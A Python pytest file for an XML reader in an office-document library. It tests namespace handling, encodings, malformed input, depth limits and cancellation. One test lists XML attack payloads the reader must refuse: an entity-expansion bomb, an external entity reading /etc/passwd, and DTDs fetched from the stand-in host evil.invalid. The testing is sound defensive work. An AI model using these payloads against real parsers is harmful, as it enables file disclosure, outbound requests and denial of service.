"""XML that is damaged or made to do harm is refused; names are told with known prefixes."""

from collections.abc import Iterator

import pytest

from motsvar.core.errors import Cancelled, UnreadableDocument
from motsvar.readers.office.package import Part
from motsvar.readers.office.xml_events import DEEPEST, Attributes, End, Start, Vocabulary, listen, told

NAMES = Vocabulary({"urn:old": "w", "urn:new": "w"})


class Heard:
    """Writes down what it is told."""

    def __init__(self) -> None:
        self.all: list[str] = []
        self.starts: dict[str, Start] = {"w:p": self.begin, "w:out": lambda _: True, "plain": self.begin}
        self.ends: dict[str, End] = {"w:p": lambda: self.all.append("end")}

    def begin(self, attributes: Attributes) -> None:
        self.all += [f"{name}={value}" for name, value in attributes.items()]

    def words(self, words: str) -> None:
        self.all.append(words)


def part(*pieces: bytes) -> Part:
    return Part("a part", sum(map(len, pieces)), iter(pieces))


def heard(*pieces: bytes) -> list[str]:
    listener = Heard()
    listen(part(*pieces), NAMES, listener)
    return listener.all


def test_both_namespaces_have_one_prefix_and_what_is_left_out_is_not_told() -> None:
    xml = b'<a xmlns:x="urn:new" xmlns="urn:old"><p x:val="1" y="2">ett<out>tv\xc3\xa5<p/></out></p><x:p>tre</x:p></a>'
    assert heard(xml[:50], xml[50:]) == ["w:val=1", "y=2", "ett", "end", "tre", "end"]


def test_every_encoding_that_the_file_declares_is_understood_or_refused() -> None:
    assert heard("<plain>å</plain>".encode("utf-16")) == ["å"]
    assert heard('<?xml version="1.0" encoding="ISO-8859-1"?><plain>å</plain>'.encode("latin-1")) == ["å"]
    for encoding in ("no-such", "shift_jis", "utf-7", "idna"):
        with pytest.raises(UnreadableDocument, match="damaged"):
            heard(f'<?xml version="1.0" encoding="{encoding}"?><plain>a</plain>'.encode())


@pytest.mark.parametrize(
    "xml",
    [
        b"",
        b"<a>",
        b"<a></b>",
        b"<a>&lol;</a>",
        b"<a>\x0c</a>",
        b"<a>\xff</a>",
        b"<a/><b/>",
        b"text",
        b"<x:a/>",
        b"<a>\0</a>",
    ],
)
def test_what_is_not_well_formed_is_refused(xml: bytes) -> None:
    with pytest.raises(UnreadableDocument, match="a part is damaged"):
        heard(xml)


@pytest.mark.parametrize(
    "declared",
    [
        b'<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a SYSTEM "http://evil.invalid/a.dtd">',
        b'<!DOCTYPE a [<!ENTITY % b SYSTEM "//evil.invalid/a"> %b;]>',
        b"<!DOCTYPE a>",
    ],
)
def test_a_declaration_of_a_document_type_is_refused(declared: bytes) -> None:
    with pytest.raises(UnreadableDocument, match="declares a document type"):
        heard(declared + b"<a>&b;&c;</a>")


def test_depth_has_a_bound() -> None:
    def nested(depth: int) -> bytes:
        return b"<a>" * depth + b"</a>" * depth

    assert heard(nested(DEEPEST)) == []
    with pytest.raises(UnreadableDocument, match="levels deep"):
        heard(nested(DEEPEST + 1))
    with pytest.raises(UnreadableDocument, match="levels deep"):
        heard(b'<out xmlns="urn:old">' + nested(100_000))


def test_how_far_reading_is_rises_and_it_can_be_stopped() -> None:
    fractions: list[float] = []
    xml = (b"<a>", b"x" * 100, b"</a>")
    listen(told(part(*xml), lambda fraction, _: fractions.append(fraction), 0.5), NAMES, Heard())
    assert fractions == sorted(fractions)
    assert fractions[-1] == 1.0

    def stop(_fraction: float, _phrase: str) -> None:
        raise Cancelled

    with pytest.raises(Cancelled):
        listen(told(part(*xml), stop), NAMES, Heard())


def test_errors_of_the_file_pass_through() -> None:
    def breaking() -> Iterator[bytes]:
        yield b"<a>"
        raise UnreadableDocument("The checksum does not agree.")

    with pytest.raises(UnreadableDocument, match="checksum"):
        listen(Part("a part", 9, breaking()), NAMES, Heard())
